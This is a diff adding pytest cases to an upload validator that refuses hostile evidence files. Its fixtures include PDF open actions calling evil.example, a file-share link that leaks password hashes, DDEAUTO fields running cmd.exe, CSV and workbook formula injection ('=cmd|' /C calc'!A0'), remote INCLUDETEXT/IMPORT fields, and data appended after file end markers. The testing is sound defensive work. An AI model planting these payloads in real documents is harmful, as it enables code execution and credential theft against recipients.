@@ -139,6 +139,42 @@ HOSTILE_PDFS = {
         raw_pdf(CATALOG, b"<< /Filter /FlateDecode /Length 9 >>\nstream\nnot-flate\nendstream"),
         "undecodable",
     ),
+    "a web address opened on opening (calls home)": (
+        raw_pdf(
+            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
+            b"<< /S /URI /URI (http://evil.example/opened?doc=1) >>",
+        ),
+        "uri",
+    ),
+    "a web address opened by a page's additional action": (
+        raw_pdf(
+            CATALOG, b"<< /Type /Page /AA << /O << /S /URI /URI (https://evil.example/) >> >> >>"
+        ),
+        "uri",
+    ),
+    "a web address run after another action on opening": (
+        raw_pdf(
+            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoTo /D [3 0 R /Fit] "
+            b"/Next [4 0 R] >> >>",
+            b"<< /S /URI /URI (http://evil.example/) >>",
+        ),
+        "uri",
+    ),
+    "a link to a file share (leaks the password hash)": (
+        raw_pdf(
+            CATALOG,
+            b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (file://evil.example/s/x) >> >>",
+        ),
+        "uri",
+    ),
+    "a zip holding vbaProject.bin appended after %%EOF": (
+        raw_pdf(CATALOG) + samples.zip_of({"vbaProject.bin": b"\xd0\xcf\x11\xe0 vba"}),
+        "appended-data",
+    ),
+    "a zip appended after %%EOF and a second %%EOF after it": (
+        raw_pdf(CATALOG) + samples.zip_of({"vbaProject.bin": b"vba"}) + b"\n%%EOF\n",
+        "appended-data",
+    ),
 }
 
 
@@ -146,6 +182,12 @@ HOSTILE_PDFS = {
 def test_a_hostile_pdf_is_refused_naming_why(case):
     data, reason = HOSTILE_PDFS[case]
     assert reason_for(data, "evidence.pdf") == reason
+
+
+def test_a_web_link_clicked_in_a_pdf_and_an_incremental_update_are_allowed():
+    link = b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://prd.go.th/) >> >>"
+    updated = raw_pdf(CATALOG, link) + b"% an incremental update\n%%EOF\r\n"
+    assert checks.inspect(io.BytesIO(updated), "evidence.pdf").kind == "pdf"
 
 
 def docx_with(body: str, **parts: bytes) -> bytes:
@@ -160,6 +202,49 @@ def docx_with(body: str, **parts: bytes) -> bytes:
 
 def run(instruction: str) -> str:
     return f"<w:r><w:instrText>{instruction}</w:instrText></w:r>"
+
+
+def complex_field(*runs: str, nested: str = "") -> str:
+    """A field of begin, its instruction split over `runs` (then a `nested` field), and end."""
+    char = "<w:r><w:fldChar w:fldCharType='{}'/></w:r>"
+    return char.format("begin") + "".join(map(run, runs)) + nested + char.format("end")
+
+
+def simple_field(instruction: str) -> str:
+    return f"<w:fldSimple w:instr='{instruction}'/>"
+
+
+PAGE = " PAGE \\* MERGEFORMAT"
+DDEAUTO = "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc.exe&quot;"
+INCLUDETEXT = "INCLUDETEXT &quot;\\\\evil.example\\s\\x.docx&quot;"
+INCLUDEPICTURE = "INCLUDEPICTURE &quot;http://evil.example/x.png&quot; \\d"
+
+
+def workbook_text_cell(text: str, inline: bool = False) -> bytes:
+    """The sample workbook with cell B2 holding `text` as text (shared, or inline)."""
+    xlsx = samples.xlsx_file()
+    if inline:
+        cell = f'<c r="B2" t="inlineStr"><is><t>{text}</t></is></c>'
+        changes = {}
+    else:
+        cell = '<c r="B2" t="s"><v>0</v></c>'
+        shared = f'<sst xmlns="{SHEET_NS}" count="1" uniqueCount="1"><si><t>{text}</t></si></sst>'
+        changes = {"xl/sharedStrings.xml": shared.encode()}
+        xlsx = samples.add_content_type(
+            xlsx,
+            '<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
+            'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>',
+        )
+    sheet = (
+        f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{SHEET_NS}"><sheetData>'
+        f'<row r="1"><c r="A1" t="inlineStr"><is><t>note</t></is></c></row>'
+        f'<row r="2"><c r="A2"><v>-1.5</v></c>{cell}</row></sheetData></worksheet>'
+    )
+    return samples.rezip(xlsx, {"xl/worksheets/sheet1.xml": sheet.encode(), **changes})
+
+
+SHEET_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+CMD = "=cmd|' /C calc'!A0"
 
 
 ALT_CHUNK_RELS = (
@@ -224,7 +309,90 @@ HOSTILE_OFFICE = {
         "evidence.xlsx",
         "dde",
     ),
+    "a DDEAUTO field after a simple field ending in a letter": (
+        docx_with("<w:p>" + simple_field(PAGE) + simple_field(DDEAUTO) + "</w:p>"),
+        "evidence.docx",
+        "dde",
+    ),
+    "a DDEAUTO field after a complex field ending in a letter": (
+        docx_with("<w:p>" + complex_field(PAGE) + complex_field(DDEAUTO) + "</w:p>"),
+        "evidence.docx",
+        "dde",
+    ),
+    "a lower-case ddeauto split over the runs of a complex field": (
+        docx_with(
+            "<w:p>" + complex_field(PAGE) + complex_field(" dd", "eauto c:\\\\x.exe") + "</w:p>"
+        ),
+        "evidence.docx",
+        "dde",
+    ),
+    "a DDEAUTO run after a loose run ending in a letter": (
+        docx_with("<w:p>" + run(PAGE) + run(DDEAUTO) + "</w:p>"),
+        "evidence.docx",
+        "dde",
+    ),
+    "an INCLUDETEXT after a field ending in a letter": (
+        docx_with("<w:p>" + simple_field(PAGE) + complex_field(INCLUDETEXT) + "</w:p>"),
+        "evidence.docx",
+        "external-reference",
+    ),
+    "an INCLUDEPICTURE after a field ending in a letter": (
+        docx_with("<w:p>" + complex_field(PAGE) + simple_field(INCLUDEPICTURE) + "</w:p>"),
+        "evidence.docx",
+        "external-reference",
+    ),
+    "an IMPORT field": (
+        docx_with(
+            "<w:p>" + complex_field(" Import &quot;http://evil.example/a.wmf&quot;") + "</w:p>"
+        ),
+        "evidence.docx",
+        "external-reference",
+    ),
+    "a DDE field inside another field": (
+        docx_with("<w:p>" + complex_field(" IF 1 = 1 ", nested=complex_field(DDEAUTO)) + "</w:p>"),
+        "evidence.docx",
+        "dde",
+    ),
+    "a formula in a CSV cell": (
+        f"unit,period,note\nR1,M01,ok\nR1,M02,{CMD}\n".encode(),
+        "evidence.csv",
+        "formula",
+    ),
+    "a CSV cell beginning with a tab and a formula": (
+        b'unit,note\nR1,"\t=1+1"\n',
+        "evidence.csv",
+        "formula",
+    ),
+    "a shared text cell of a workbook that reads as a formula": (
+        workbook_text_cell(CMD.replace("'", "&apos;")),
+        "evidence.xlsx",
+        "formula",
+    ),
+    "an inline text cell of a workbook that reads as a formula": (
+        workbook_text_cell("@SUM(1+1)", inline=True),
+        "evidence.xlsx",
+        "formula",
+    ),
 }
+
+HOSTILE_IMAGES = {
+    "a zip appended after a PNG's IEND": (
+        samples.png_file() + samples.zip_of({"vbaProject.bin": b"vba"}),
+        "evidence.png",
+        "appended-data",
+    ),
+    "a script appended after a JPEG's end of image": (
+        samples.jpeg_file() + b"<script>alert(1)</script>",
+        "evidence.jpg",
+        "appended-data",
+    ),
+}
+
+
+@pytest.mark.parametrize("case", sorted(HOSTILE_IMAGES))
+def test_an_image_with_data_after_its_end_is_refused(case):
+    data, filename, reason = HOSTILE_IMAGES[case]
+    assert reason_for(data, filename) == reason
 
 
 @pytest.mark.parametrize("case", sorted(HOSTILE_OFFICE))
@@ -238,8 +406,19 @@ def test_ordinary_fields_and_formulas_are_allowed():
         "<w:p>" + run(" PAGE ") + run(" HYPERLINK &quot;https://prd.go.th&quot; ") + "</w:p>"
     )
     assert checks.inspect(io.BytesIO(fields), "evidence.docx").kind == "docx"
+    complex_fields = docx_with(
+        "<w:p>" + complex_field(PAGE) + complex_field(" MERGEFIELD added_value ") + "</w:p>"
+    )
+    assert checks.inspect(io.BytesIO(complex_fields), "evidence.docx").kind == "docx"
     sums = XLSX_DDE.replace(b"cmd|' /C calc'!A0", b"SUM('Sheet|1'!A1:A3)")
     workbook = samples.rezip(samples.xlsx_file(), {"xl/worksheets/sheet1.xml": sums})
+    assert checks.inspect(io.BytesIO(workbook), "evidence.xlsx").kind == "xlsx"
+
+
+def test_numbers_and_plain_text_in_spreadsheet_cells_are_allowed():
+    csv = "unit,period,value,note\nR1,M01,-1.5,เกินงบ 1.5 %\nR1,M02,+2,a-b\n".encode()
+    assert checks.inspect(io.BytesIO(csv), "evidence.csv").kind == "csv"
+    workbook = workbook_text_cell("งบประมาณ - ค่าใช้จ่าย")
     assert checks.inspect(io.BytesIO(workbook), "evidence.xlsx").kind == "xlsx"
 
 
@@ -275,6 +454,18 @@ def test_hostile_files_are_refused_by_the_running_system_and_leave_nothing(repor
         ),
         (HOSTILE_PDFS["a remote go-to link"][0], "b.pdf", "remote-goto"),
         (HOSTILE_OFFICE["a DDEAUTO field"][0], "c.docx", "dde"),
+        (HOSTILE_PDFS["a web address opened on opening (calls home)"][0], "d.pdf", "uri"),
+        (
+            HOSTILE_PDFS["a zip holding vbaProject.bin appended after %%EOF"][0],
+            "e.pdf",
+            "appended-data",
+        ),
+        (HOSTILE_OFFICE["a formula in a CSV cell"][0], "f.csv", "formula"),
+        (
+            HOSTILE_OFFICE["a DDEAUTO field after a simple field ending in a letter"][0],
+            "g.docx",
+            "dde",
+        ),
     ]:
         with unchanged():
             resp = post_file(reporter, data, filename)
